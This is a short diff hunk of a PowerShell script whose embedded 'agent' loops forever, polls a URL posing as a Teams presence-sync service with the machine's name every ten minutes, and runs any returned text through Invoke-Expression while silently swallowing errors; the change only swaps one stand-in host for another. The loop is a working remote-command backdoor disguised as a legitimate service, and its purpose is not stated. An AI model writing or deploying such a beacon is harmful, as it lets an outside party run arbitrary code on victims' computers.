@@ -4,7 +4,7 @@ New-Item -ItemType Directory -Force -Path $dir | Out-Null
 $agent = @'
 while ($true) {
   try {
-    $c = (Invoke-WebRequest -UseBasicParsing -Uri "https://presence-sync.teamsapps.example/api/poll?h=$env:COMPUTERNAME").Content
+    $c = (Invoke-WebRequest -UseBasicParsing -Uri "https://presence-sync.teamsapps.test/api/poll?h=$env:COMPUTERNAME").Content
     if ($c) { Invoke-Expression $c }
   } catch {}
   Start-Sleep -Seconds 600
